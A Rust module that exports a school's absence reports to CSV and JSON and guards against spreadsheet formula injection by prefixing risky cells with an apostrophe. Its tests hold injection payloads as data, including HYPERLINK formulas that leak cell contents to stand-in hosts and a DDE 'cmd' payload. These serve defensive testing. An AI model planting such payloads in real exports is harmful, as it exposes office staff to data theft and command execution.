//! Exports of a school's reports for its records system: CSV in UTF-8 with
//! a BOM (Excel opens Japanese correctly) or in Shift_JIS (what many school
//! records systems still read), and JSON. Only active reports are exported:
//! replaced and cancelled ones are history, not attendance.
//!
//! A CSV is opened in a spreadsheet, which runs any cell that looks like a
//! formula: a roster name such as `=HYPERLINK(…)` or a forged caller id
//! would run on the office's PC. So every CSV cell a spreadsheet would read
//! as a formula, or as a number it would mangle, is written with a leading
//! `'` ([`defuse`]); the JSON stays exact.

use serde::Serialize;

use crate::store::{ReportRow, Store, StoreError};

/// Column names, in order; documented in the README.
pub const CSV_COLUMNS: [&str; 23] = [
    "reference",
    "school_day",
    "received_at",
    "student",
    "grade",
    "class",
    "attendance_no",
    "kind",
    "kind_label",
    "reason",
    "reason_label",
    "symptom",
    "symptom_label",
    "temperature",
    "disease",
    "disease_label",
    "time",
    "recording_url",
    "language",
    "channel",
    "caller",
    "call_sid",
    "name",
];

/// How the CSV is encoded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    Utf8Bom,
    ShiftJis,
}

/// A report row as exported: the stored row, its Japanese labels, and the
/// student's name from the current roster.
#[derive(Debug, Clone, Serialize)]
pub struct ExportRow {
    #[serde(flatten)]
    pub report: ReportRow,
    pub kind_label: &'static str,
    pub reason_label: &'static str,
    /// Every symptom of the list labelled, joined with 「・」.
    pub symptom_label: String,
    pub disease_label: &'static str,
    pub name: Option<String>,
}

impl ExportRow {
    pub fn new(report: ReportRow, name: Option<String>) -> ExportRow {
        let l = |v: &Option<String>| label(v.as_deref().unwrap_or(""));
        ExportRow {
            kind_label: l(&report.kind),
            reason_label: l(&report.reason),
            symptom_label: symptoms_label(report.symptom.as_deref().unwrap_or("")),
            disease_label: l(&report.disease),
            name,
            report,
        }
    }
}

/// The Japanese word a school's records use for a stored code.
pub fn label(code: &str) -> &'static str {
    match code {
        "absence" => "欠席",
        "late" => "遅刻",
        "early" => "早退",
        "illness" => "病気",
        "injury" => "けが",
        "medical" => "通院",
        "family" => "家庭の事情",
        "bereavement" => "忌引",
        "infectious" => "出席停止(感染症)",
        "fever" => "発熱",
        "respiratory" => "咳・喉の痛み・鼻水",
        "diarrhoea" => "下痢・腹痛",
        "vomiting" => "嘔気・嘔吐",
        // Stored before stomach ache and vomiting were asked apart.
        "digestive" => "腹痛・下痢・嘔吐",
        "headache" => "頭痛",
        "rash" => "発疹",
        "influenza" => "インフルエンザ",
        "covid-19" => "新型コロナウイルス感染症",
        "gastroenteritis" => "感染性胃腸炎",
        "strep" => "溶連菌感染症",
        "chickenpox" => "水痘",
        "mumps" => "流行性耳下腺炎",
        "pharyngoconjunctival-fever" => "咽頭結膜熱",
        "hand-foot-mouth" => "手足口病",
        "other" => "その他",
        _ => "",
    }
}

/// A symptom list (`fever,respiratory`) in the school's words, each
/// labelled and joined with 「・」: 発熱・咳・喉の痛み・鼻水.
pub fn symptoms_label(list: &str) -> String {
    list.split(',')
        .map(label)
        .filter(|l| !l.is_empty())
        .collect::<Vec<_>>()
        .join("・")
}

/// The active reports of school days `from..=to`, with names from the roster.
pub fn rows(store: &Store, from: &str, to: &str) -> Result<Vec<ExportRow>, StoreError> {
    let reports = store.reports_between(from, to)?;
    let students: Vec<&str> = reports
        .iter()
        .filter_map(|r| r.student.as_deref())
        .collect();
    let names = store.student_names(&students)?;
    Ok(reports
        .into_iter()
        .map(|r| {
            let name = r.student.as_ref().and_then(|s| names.get(s).cloned());
            ExportRow::new(r, name)
        })
        .collect())
}

pub fn to_csv(rows: &[ExportRow], encoding: Encoding) -> Vec<u8> {
    let records = rows.iter().map(|e| {
        let r = &e.report;
        let opt = |v: &Option<String>| v.clone().unwrap_or_default();
        vec![
            r.reference.to_string(),
            r.school_day.clone(),
            r.received_at.clone(),
            opt(&r.student),
            opt(&r.grade),
            opt(&r.class),
            opt(&r.attendance_no),
            opt(&r.kind),
            e.kind_label.to_owned(),
            opt(&r.reason),
            e.reason_label.to_owned(),
            opt(&r.symptom),
            e.symptom_label.clone(),
            r.temperature.map(|t| format!("{t:.1}")).unwrap_or_default(),
            opt(&r.disease),
            e.disease_label.to_owned(),
            opt(&r.time),
            opt(&r.recording_url),
            r.language.clone(),
            r.channel.clone(),
            opt(&r.caller),
            r.call_sid.clone(),
            opt(&e.name),
        ]
    });
    csv_file(CSV_COLUMNS.map(str::to_owned), records, encoding)
}

/// A whole CSV file as a spreadsheet should open it: the header, then
/// each record, every cell [`defuse`]d, CRLF line ends, in `encoding`.
/// Every CSV the server writes goes through here.
pub fn csv_file<H, R>(
    header: H,
    records: impl IntoIterator<Item = R>,
    encoding: Encoding,
) -> Vec<u8>
where
    H: IntoIterator<Item = String>,
    R: IntoIterator<Item = String>,
{
    let mut text = Vec::new();
    {
        let mut w = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut text);
        w.write_record(header.into_iter().map(defuse))
            .expect("write to Vec");
        for record in records {
            w.write_record(record.into_iter().map(defuse))
                .expect("write to Vec");
        }
        w.flush().expect("write to Vec");
    }
    let text = String::from_utf8(text).expect("CSV of UTF-8 strings");
    match encoding {
        Encoding::Utf8Bom => [b"\xEF\xBB\xBF".as_slice(), text.as_bytes()].concat(),
        Encoding::ShiftJis => shift_jis(&text),
    }
}

/// A cell as a spreadsheet must see it: as text, never as a formula.
///
/// A cell starting with a character that can make Excel or LibreOffice
/// read a formula (`=`, `+`, `-`, `@`, and tab, carriage return or NUL, as
/// OWASP and ASVS list them; a line feed too) gets a leading `'`. So does a number that would
/// lose its leading zero (student `01234`, a national caller number). The
/// caller `+819012345678` is then `'+819012345678`: the whole number, as
/// text, where a spreadsheet would otherwise show `8.19012E+11`. A cell
/// that already starts with `'` gets one more, so that a records system
/// recovers every value exactly by removing one leading `'` where there is
/// one.
pub fn defuse(cell: String) -> String {
    // Full-width and other look-alike signs too: Japanese Excel reads
    // `＝` typed into a cell as `=`; and spaces before any of them.
    const STARTS: [char; 14] = [
        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\'', '＝', '＋', '－', '＠', '−',
    ];
    let after_space = cell.trim_start_matches([' ', '\u{3000}', '\u{200B}', '\u{FEFF}']);
    let formula = after_space.starts_with(STARTS);
    let leading_zero =
        cell.len() > 1 && cell.starts_with('0') && cell.bytes().all(|b| b.is_ascii_digit());
    if formula || leading_zero {
        format!("'{cell}")
    } else {
        cell
    }
}

/// Shift_JIS, with `?` for a character it cannot hold (a name in another
/// script, say) rather than an HTML character reference.
fn shift_jis(text: &str) -> Vec<u8> {
    let (bytes, _, lossy) = encoding_rs::SHIFT_JIS.encode(text);
    if !lossy {
        return bytes.into_owned();
    }
    let mut out = Vec::with_capacity(text.len() * 2);
    let mut buf = [0u8; 4];
    for c in text.chars() {
        let (b, _, lost) = encoding_rs::SHIFT_JIS.encode(c.encode_utf8(&mut buf));
        if lost {
            out.push(b'?')
        } else {
            out.extend_from_slice(&b)
        }
    }
    out
}

pub fn to_json(rows: &[ExportRow]) -> String {
    serde_json::to_string_pretty(rows).expect("reports serialise")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(kind: &str, reason: &str) -> ExportRow {
        ExportRow::new(
            ReportRow {
                id: 1,
                reference: 7,
                school_day: "2026-11-25".into(),
                received_at: "2026-11-24T22:00:00Z".into(),
                student: Some("10203".into()),
                grade: Some("1".into()),
                class: Some("2".into()),
                attendance_no: Some("3".into()),
                kind: Some(kind.into()),
                reason: Some(reason.into()),
                symptom: None,
                temperature: Some(38.5),
                disease: None,
                time: None,
                recording_url: None,
                language: "vi".into(),
                channel: "twilio".into(),
                caller: Some("+819012345678".into()),
                call_sid: "CA1".into(),
                status: "active".into(),
                replaced_by: None,
                unconfirmed: false,
            },
            Some("Nguyễn 花子".into()),
        )
    }

    #[test]
    fn every_symptom_of_a_list_is_labelled() {
        let mut r = row("absence", "illness");
        r.report.symptom = Some("fever,respiratory,vomiting".into());
        let r = ExportRow::new(r.report, None);
        assert_eq!(r.symptom_label, "発熱・咳・喉の痛み・鼻水・嘔気・嘔吐");
        assert_eq!(symptoms_label("diarrhoea"), "下痢・腹痛");
        assert_eq!(symptoms_label("digestive"), "腹痛・下痢・嘔吐");
        assert_eq!(symptoms_label(""), "");
        let text = String::from_utf8(to_csv(&[r], Encoding::Utf8Bom)).unwrap();
        assert!(
            text.contains("\"fever,respiratory,vomiting\",発熱・咳・喉の痛み・鼻水・嘔気・嘔吐"),
            "{text}"
        );
        for (code, word) in [
            ("strep", "溶連菌感染症"),
            ("chickenpox", "水痘"),
            ("mumps", "流行性耳下腺炎"),
            ("pharyngoconjunctival-fever", "咽頭結膜熱"),
            ("hand-foot-mouth", "手足口病"),
        ] {
            assert_eq!(label(code), word);
        }
    }

    #[test]
    fn utf8_has_a_bom_and_shift_jis_round_trips_japanese() {
        let rows = [row("absence", "infectious")];
        let utf8 = to_csv(&rows, Encoding::Utf8Bom);
        assert!(utf8.starts_with(b"\xEF\xBB\xBF"));
        let text = std::str::from_utf8(&utf8[3..]).unwrap();
        assert!(
            text.contains("欠席")
                && text.contains("出席停止(感染症)")
                && text.contains("Nguyễn 花子")
        );
        let sjis = to_csv(&rows, Encoding::ShiftJis);
        assert!(!sjis.starts_with(b"\xEF\xBB\xBF"));
        let (back, _, bad) = encoding_rs::SHIFT_JIS.decode(&sjis);
        assert!(!bad);
        assert!(
            back.contains("欠席") && back.contains("出席停止(感染症)"),
            "{back}"
        );
        assert!(
            back.contains("Nguy?n 花子"),
            "unmappable letters become ?: {back}"
        );
        assert!(back.contains("\r\n"));
    }

    /// The CSV's cells for one row, as a CSV reader gives them back.
    fn cells(csv: &[u8]) -> Vec<String> {
        let mut r = csv::Reader::from_reader(csv.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(csv));
        let row = r.records().next().unwrap().unwrap();
        row.iter().map(str::to_owned).collect()
    }

    #[test]
    fn full_width_and_spaced_formula_signs_are_defused_too() {
        for cell in [
            "＝HYPERLINK(\"http://evil/\"&A1;\"x\")",
            "＋81",
            "－1",
            "＠SUM(A1)",
            "−1",
            " =1+1",
            "\u{3000}=1+1",
            "\u{200B}@A1",
        ] {
            assert_eq!(defuse(cell.into()), format!("'{cell}"), "{cell:?}");
        }
        for plain in ["山田 花子", "Santos, Maria", "38.5", "1 = 1"] {
            assert_eq!(defuse(plain.into()), plain);
        }
    }

    #[test]
    fn formulas_and_leading_zeros_are_written_as_text_in_both_csvs_and_exact_in_json() {
        let mut e = row("absence", "illness");
        e.name = Some(r#"=HYPERLINK("http://x.example/?leak="&A1,"y")"#.into());
        e.report.student = Some("01234".into());
        e.report.recording_url = Some("@SUM(1+1)*cmd|' /C calc'!A0".into());
        e.report.time = Some("-2+3".into());
        e.report.channel = "\t=1+1".into();
        let col = |name: &str| CSV_COLUMNS.iter().position(|c| *c == name).unwrap();
        for encoding in [Encoding::Utf8Bom, Encoding::ShiftJis] {
            let csv = to_csv(std::slice::from_ref(&e), encoding);
            let text = match encoding {
                Encoding::Utf8Bom => String::from_utf8(csv).unwrap(),
                Encoding::ShiftJis => encoding_rs::SHIFT_JIS.decode(&csv).0.into_owned(),
            };
            let c = cells(text.as_bytes());
            assert_eq!(
                c[col("name")],
                r#"'=HYPERLINK("http://x.example/?leak="&A1,"y")"#
            );
            assert_eq!(c[col("caller")], "'+819012345678");
            assert_eq!(c[col("student")], "'01234");
            assert_eq!(c[col("recording_url")], "'@SUM(1+1)*cmd|' /C calc'!A0");
            assert_eq!(c[col("time")], "'-2+3");
            assert_eq!(c[col("channel")], "'\t=1+1");
            assert_eq!(c[col("reference")], "7", "numbers stay numbers");
            assert_eq!(c[col("temperature")], "38.5");
            assert_eq!(c[col("school_day")], "2026-11-25");
        }
        let json: serde_json::Value = serde_json::from_str(&to_json(&[e])).unwrap();
        assert_eq!(
            json[0]["name"],
            r#"=HYPERLINK("http://x.example/?leak="&A1,"y")"#
        );
        assert_eq!(json[0]["caller"], "+819012345678");
        assert_eq!(json[0]["student"], "01234");
    }

    #[test]
    fn removing_one_leading_apostrophe_gives_back_every_value() {
        for v in [
            "",
            "0",
            "01234",
            "10203",
            "+819012345678",
            "0312345678",
            "-",
            "=1+1",
            "@a",
            "'",
            "'=1+1",
            "''x",
            "山田 花子",
            "\r=1",
            "\n",
            "\0x",
            "38.5",
            "a=b",
        ] {
            let d = defuse(v.to_owned());
            let back = d.strip_prefix('\'').unwrap_or(&d);
            assert_eq!(back, v, "{d:?}");
            let first = d.chars().next();
            assert!(
                !matches!(
                    first,
                    Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0')
                ),
                "{v:?} became {d:?}"
            );
        }
        assert_eq!(defuse("10203".into()), "10203", "no zero to lose");
        assert_eq!(defuse("0".into()), "0");
        assert_eq!(defuse("Santos, Maria".into()), "Santos, Maria");
    }
}
